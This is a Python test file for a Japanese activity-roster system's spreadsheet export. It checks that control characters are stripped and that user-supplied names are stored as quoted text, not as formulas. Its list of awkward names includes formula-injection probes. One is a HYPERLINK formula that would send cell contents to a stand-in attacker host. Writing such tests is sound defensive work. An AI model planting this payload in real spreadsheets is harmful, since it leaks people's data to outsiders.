"""Every spreadsheet the system writes cleans illegal characters at the cell: data stored before
the text rule (or reaching a writer by another path) can never make an export fail."""

from __future__ import annotations

import io
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import openpyxl

from furusato.capabilities.rosters import roster_workbook
from furusato.clock import JST
from furusato.domain.activity import Activity
from furusato.domain.text import cell_text
from furusato.imports.report import display_text

# Every C0 and C1 control character, DEL, lone surrogates and the XML non-characters.
HOSTILE = "".join(chr(c) for c in [*range(0x00, 0x20), *range(0x7F, 0xA0)]) + "\ud800\udfff\ufffe\uffff"


def _activity(name: str) -> Activity:
    start = datetime(2026, 5, 10, 9, tzinfo=JST)
    return Activity(
        activity_id="act_x",
        lg_code="212172",
        name=name,
        starts_at=start,
        ends_at=start,
        place=name,
        conditions=None,
        capacity=None,
        organization_id=None,
        designated=True,
        checkin_mode="static_qr",
        status="scheduled",
        created_at="",
        updated_at="",
    )


def test_cell_text_keeps_what_xml_can_hold() -> None:
    assert (
        cell_text(f"山田{HOSTILE}花子") == "山田\t\n\r" + "".join(chr(c) for c in range(0x7F, 0xA0)) + "花子"
    )
    assert len(cell_text("x" * 40_000)) == 32_767


def test_a_roster_holds_every_control_character_written_through_it() -> None:
    line = _line(1, f"山田{HOSTILE}花子")
    data = roster_workbook(_activity(f"清掃{HOSTILE}"), [line])
    sheet = openpyxl.load_workbook(io.BytesIO(data))["参加者"]
    name = sheet.cell(row=7, column=2).value
    assert name.startswith("山田") and name.endswith("花子") and "\x00" not in name


def test_the_import_report_cleans_every_cell() -> None:
    shown = display_text(f"a{HOSTILE}b")
    assert shown is not None and shown == cell_text(f"a{HOSTILE}b")


# Names as people type them, or as an attacker would: each must come back as the same text, in a
# text cell with the quote prefix, never a formula.
AWKWARD = [
    '=HYPERLINK("http://evil.example/?q="&A1,"詳細")',
    "=1+1",
    "+81 3 1234 5678",
    "-2+3",
    "@SUM(A1:A9)",
    "<b>\"山田\" & '花子'</b>",
    "a]]>b",
    "&amp; &#13; &lt;",  # already-escaped-looking text stays as typed
    "一行目\r\n二行目\r三行目",
    "\t先頭のタブ",
    "髙橋　𠮷子",
]


def _line(n: int, name: str | None) -> dict[str, object]:
    return {
        "participation_id": f"par_{n:04d}",
        "name": name,
        "registered": n % 2 == 0,
        "registration_id": f"reg_{n:04d}" if n % 2 == 0 else None,
        "source": "qr",
        "checkin_mode": "static_qr",
        "checked_in_at": "2026-05-10T09:00:00+09:00",
        "recorded_at": "2026-05-10T09:00:00+09:00",
        "offline": False,
        "status": "confirmed",
    }


def _assert_text_only(data: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data))["参加者"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    return sheet


def test_a_roster_keeps_awkward_names_as_the_same_text() -> None:
    lines = [_line(n, name) for n, name in enumerate([*AWKWARD, f"山田{HOSTILE}花子", None])]
    sheet = _assert_text_only(roster_workbook(_activity('="活動" & <場所>'), lines))
    assert sheet["B1"].value == '="活動" & <場所>' and sheet["B4"].value == '="活動" & <場所>'
    assert sheet.freeze_panes == "A7" and sheet.column_dimensions["A"].width > 30
    names = [sheet.cell(row=r, column=2).value for r in range(7, 7 + len(lines))]
    assert names == [*AWKWARD, cell_text(f"山田{HOSTILE}花子"), None]
    assert [sheet.cell(row=r, column=4).value for r in (7, 8)] == ["reg_0000", None]


def test_the_export_job_s_writer_streams_pages_into_the_same_workbook(tmp_path: Path) -> None:
    """`write_roster` (the job) consumes its pages lazily and writes what `roster_workbook` (the
    request) writes, row for row."""
    from furusato.capabilities.rosters import write_roster

    lines = [_line(n, AWKWARD[n % len(AWKWARD)]) for n in range(1_234)]
    consumed: list[int] = []

    def pages() -> Iterator[list[dict[str, object]]]:
        for first in range(0, len(lines), 500):
            consumed.append(first)
            yield lines[first : first + 500]

    path = tmp_path / "roster.xlsx"
    assert write_roster(_activity("清掃"), pages(), str(path)) == 1_234
    assert consumed == [0, 500, 1_000]
    streamed = _assert_text_only(path.read_bytes())
    whole = _assert_text_only(roster_workbook(_activity("清掃"), lines))
    rows = [tuple(c.value for c in row) for row in streamed.iter_rows()]
    assert rows == [tuple(c.value for c in row) for row in whole.iter_rows()]
    assert len(rows) == 6 + 1_234 and rows[-1][0] == "par_1233"


def test_a_table_holds_numbers_and_columns_past_z() -> None:
    from furusato.capabilities.rosters import workbook

    headers = [f"h{i}" for i in range(30)]
    data = workbook("表<&>", headers, [[*range(28), "=1+1", ""]])
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["表<&>"]
    assert [c.value for c in sheet[1]] == headers and sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[2]] == [*range(28), "=1+1", None]
    assert sheet["AC2"].data_type == "s" and sheet["AC2"].quotePrefix and sheet["AB2"].data_type == "n"
